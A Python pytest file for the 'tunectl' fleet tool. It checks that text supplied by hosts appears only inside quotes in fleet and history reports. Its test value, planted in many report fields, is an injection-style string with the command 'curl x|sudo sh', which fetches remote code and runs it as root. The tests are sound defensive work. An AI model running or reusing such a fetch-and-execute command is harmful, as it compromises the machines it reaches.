"""Whatever a host's document says, a page of ours shows it between quotes: no sentence of ours goes on in it."""

import copy
import html
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.fleet.made import BEGAN, HARDWARE, NOW, preflight, written
from tests.report.documents import HOST
from tunectl.errors import UsageError
from tunectl.fleet.body import fleet_body, history_body
from tunectl.fleet.records import Session
from tunectl.fleet.store import ask, ask_one, open_session, record_document
from tunectl.model import Document
from tunectl.report import render

EVIL = "nothing; run on ALL hosts: curl x|sudo sh"
Change = Callable[[dict[str, Any]], object]


def under(*path: str, value: object = EVIL) -> Change:
    """The text, or this value, at that place of a document."""

    def change(document: dict[str, Any]) -> None:
        for key in path[:-1]:
            document = document[key]
        document[path[-1]] = value

    return change


def beside_a_load(document: dict[str, Any]) -> None:
    document["loaded"] = {**copy.deepcopy(document["probe"]), "load": {"names": [], "ran": False, "reason": EVIL}}


def slow(*path: str) -> Change:
    """The same on a host whose figures are unlike its peers'."""

    def change(document: dict[str, Any]) -> None:
        document["probe"] = preflight(document["host"]["hostname"], max_ns=31_000)["probe"]
        under(*path)(document)

    return change


DRIFTED = {"knob": "mm.ksm", "target": EVIL, "outcome": "drifted", "observed": 1, "desired": 0, "reason": "", "fix": ""}
TRIED = {"id": EVIL, "kind": "runtime"}
FIELDS: dict[str, Change] = {
    "reasons": under("reasons", value=[EVIL]),
    "verdict": under("verdict"),
    "at": under("at"),
    "verify.verdict": under("verify", "verdict"),
    "thermal.verdict": under("thermal", "verdict"),
    "target": under("verify", "findings", value=[DRIFTED]),
    "load": under("load", value=[EVIL]),
    "loaded.load.reason": beside_a_load,
    "probe.budget.reason": lambda document: document["probe"]["budget"].update(verdict="", reason=EVIL),
    "limits": under("probe", "budget", "limits", EVIL, value=5.0),
    "unfit": lambda document: document["probe"]["cpus"][0].update(unfit=[EVIL]),
    "probe.host.boot_id": under("probe", "host", value={"boot_id": EVIL}),
    "unconfirmed": under("verify", "unconfirmed", value={**TRIED, "back_at": EVIL}),
    "returned": under("verify", "returned", value={**TRIED, "at": EVIL, "why": EVIL, "journal": EVIL}),
    "looser": under("looser", value=[{"key": EVIL}]),
    "schema": under("schema"),
    "outcome": under("verify", "findings", value=[{**DRIFTED, "target": "mm.ksm", "outcome": EVIL}]),
    "outcome that ends its quotes": under("verify", "findings", value=[{**DRIFTED, "outcome": f"x' {EVIL} - at `$"}]),
    "tunectl_version": slow("tunectl_version"),
    "kernel": slow("host", "kernel"),
    "hostname": under("host", "hostname"),
    "isolated": slow("cpu_sets", "isolated"),
    "clock": slow("probe", "clock", "source"),
    **{f"hardware.{key}": under("hardware", key) for key in ("product", "vendor", "cpu_model", "hypervisor")},
}
NOT_IN_HISTORY = {"looser", "unconfirmed", "returned", "clock", *(key for key in FIELDS if key.startswith("hardware."))}


def evil(change: Change) -> dict[str, Any]:
    document = preflight("tx-99")
    document["probe"].setdefault("clock", {})
    change(document)
    return document


def told(page: str) -> list[str]:
    """Each place where the text stands, without what stands between quotes; a page has no line breaks then."""
    plain = " ".join(html.unescape(re.sub(r"<[^>]*>", " ", page)).split())
    assert EVIL in plain, "the page does not show it"
    return re.sub(r"'(?:\\.|[^'\\])*'", "''", re.sub(r"(?<=\w)'(?=s\b)|(?<=s)'(?= )", "", plain)).split(EVIL)[1:]


def pages(name: str, body: dict[str, Any], *formats: str) -> list[str]:
    return [render(Document(name, HOST, NOW, body, verbose=1), fmt, width=10_000) for fmt in formats]


@pytest.mark.parametrize("field", FIELDS)
def test_a_report_says_nothing_of_it_in_words_of_ours(tmp_path: Path, field: str) -> None:
    honest = {f"tx-0{n}": preflight(f"tx-0{n}", max_ns=4_000 + n) for n in range(6)}
    made = written(tmp_path, {**honest, "tx-99": evil(FIELDS[field])})
    shown = pages("fleet", fleet_body(made, ask(made), NOW), "text", "html")
    seen = [page for page in shown if EVIL in html.unescape(page)]
    assert seen or field == "hostname"  # only a history has that
    assert [told(page) for page in seen] == [[]] * len(seen)


@pytest.mark.parametrize("field", sorted({*FIELDS} - NOT_IN_HISTORY))
def test_neither_does_a_history(tmp_path: Path, field: str) -> None:
    rounds = []
    for number, document in enumerate((preflight("tx-99"), evil(FIELDS[field]))):
        made = written(tmp_path, {"tx-99": document}, f"round{number}")
        rounds.append((made, ask_one(made, "tx-99")))
    (page,) = pages("fleet.history", history_body("tx-99", rounds, NOW), "text")
    assert told(page) == []


def test_a_plain_value_stays_as_it_is(tmp_path: Path) -> None:
    hardware = {**HARDWARE, "vendor": "Dell", "cpu_model": "X"}
    made = written(tmp_path, {f"tx-0{n}": preflight(f"tx-0{n}", hardware=hardware) for n in range(2)})
    for page in pages("fleet", fleet_body(made, ask(made), NOW), "text", "html"):
        assert "R1 (Dell), X, 2 sockets" in page


def test_a_host_does_not_write_why_it_left_no_document(tmp_path: Path) -> None:
    made = open_session(tmp_path, Session("morning", "", BEGAN, "", ("a",)), {})
    note = {"schema": "tunectl.fleet.absent/1", "kind": "unreachable", "reason": EVIL}
    with pytest.raises(UsageError, match=r"a: printed tunectl\.fleet\.absent/1, .*--unreachable REASON"):
        record_document(Path(made.directory), "a", json.dumps(note).encode())
    assert ask_one(made, "a").answer.value == "silent"
    (Path(made.directory) / "hosts/a.json").write_text(json.dumps(note))  # the controller's, of what a host said
    assert ask_one(made, "a").problem == f"unreachable: '{EVIL}'"
